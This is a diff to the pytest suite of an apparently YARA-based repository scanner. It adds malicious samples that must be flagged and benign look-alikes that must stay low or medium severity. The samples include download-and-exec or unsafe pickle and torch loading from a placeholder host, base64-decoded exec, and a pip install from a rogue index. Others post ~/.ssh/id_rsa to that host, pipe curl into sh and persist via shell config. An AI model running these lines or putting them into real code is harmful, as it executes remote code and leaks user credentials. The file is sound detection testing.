@@ -505,6 +505,43 @@ MALICIOUS = [
         HIGH,
     ),
     ("run.sh", "echo 'x' >> ~/.config/fish/config.fish\n", "LG-YARA-PERSIST-001", HIGH),
+    # two steps through a variable, a few lines apart
+    (
+        "m.py",
+        "import urllib.request\nbody = urllib.request.urlopen('http://x.invalid/p').read().decode()\nexec(body)\n",
+        "LG-YARA-DLEXEC-002",
+        CRITICAL,
+    ),
+    (
+        "m.py",
+        "import io, pickle, requests\nr = requests.get('http://x.invalid/s.pkl')\nobj = pickle.load(io.BytesIO(r.content))\n",
+        "LG-YARA-DLEXEC-002",
+        CRITICAL,
+    ),
+    (
+        "m.py",
+        "raw = urlopen('http://x.invalid/m.pt').read()\nsd = torch.load(io.BytesIO(raw), weights_only=False)\n",
+        "LG-YARA-DLEXEC-002",
+        CRITICAL,
+    ),
+    (
+        "m.py",
+        "from base64 import b64decode\ncode = b64decode('cHJpbnQoMSk=')\nexec(code)\n",
+        "LG-YARA-OBF-001",
+        CRITICAL,
+    ),
+    (
+        "m.py",
+        "import subprocess\nsubprocess.run('python -m pip install --index-url http://x.invalid/simple h', shell=True)\n",
+        "LG-YARA-DLEXEC-006",
+        HIGH,
+    ),
+    (
+        "m.py",
+        "import os, requests\nt = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post('http://x.invalid/c', data=t)\n",
+        "LG-YARA-CRED-004",
+        HIGH,
+    ),
     # the same payloads inside JSON-escaped notebook code are found, capped as prose
     ("demo.ipynb", _notebook("!curl -s http://x.invalid/i | sh\n"), "LG-YARA-DLEXEC-001", LOW),
 ]
@@ -621,6 +658,11 @@ BENIGN = [
     ("LICENSE", 'THE SOFTWARE IS PROVIDED "AS IS", WITHOUT WARRANTY OF ANY KIND.\n'),
     ("m.py", "import trex  # T-Rex: open-set detection\nstrata = df.groupby('stratum')\n"),
     ("healthcheck.sh", "ping -c 1 $(hostname)\nnslookup huggingface.co\n"),
+    ("m.py", "img = base64.b64decode(data)\nmodel.eval()\nout = model(img)\n"),
+    (
+        "m.py",
+        "r = requests.get(url)\nopen(p, 'wb').write(r.content)\nsd = torch.load(p, weights_only=True)\nmodel.eval()\n",
+    ),
     ("vocab.txt", "paint\nmain\nprint\nopen\nscenarios\nrun\nmacos\nsystem\n"),
     ("m.py", "from crontab import CronTab  # documented, not used\n"),
     ("m.py", "value = eval(compute(x))\nexec(compile(src, path, 'exec'))\n"),
@@ -635,6 +677,32 @@ def test_look_alike_stays_low(make_repo: MakeRepo, name: str, content: str) -> N
         (f.rule_id, f.severity.name)
         for f in yara_findings(make_repo({name: content}))
         if f.severity > Severity.LOW
+    ]
+    assert not loud, content
+
+
+# Look-alikes that an existing MEDIUM rule reports by design (a runtime pip install,
+# one credential store named) and that the newer HIGH rules must leave alone.
+BENIGN_MEDIUM = [
+    (
+        "m.py",
+        "subprocess.run([sys.executable, '-m', 'pip', 'install', 'torch', '--index-url', 'https://download.pytorch.org/whl/cu121'])\n",
+    ),
+    (
+        "m.py",
+        "import netrc, urllib.request\nauth = netrc.netrc(os.path.expanduser('~/.netrc'))\nurllib.request.urlopen(url)\n",
+    ),
+]
+
+
+@pytest.mark.parametrize(
+    ("name", "content"), BENIGN_MEDIUM, ids=[f"{row[0]}:{row[1][:40]}" for row in BENIGN_MEDIUM]
+)
+def test_look_alike_stays_medium(make_repo: MakeRepo, name: str, content: str) -> None:
+    loud = [
+        (f.rule_id, f.severity.name)
+        for f in yara_findings(make_repo({name: content}))
+        if f.severity > Severity.MEDIUM
     ]
     assert not loud, content
 
